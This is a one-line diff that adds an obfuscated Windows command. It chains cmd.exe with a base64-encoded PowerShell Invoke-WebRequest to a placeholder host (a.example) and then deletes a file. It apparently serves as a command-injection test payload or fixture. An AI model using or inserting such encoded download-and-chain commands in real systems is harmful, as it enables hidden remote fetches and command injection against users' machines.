@@ -1,0 +1,1 @@
+cmd.exe /c echo x & powershell -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA= && del x
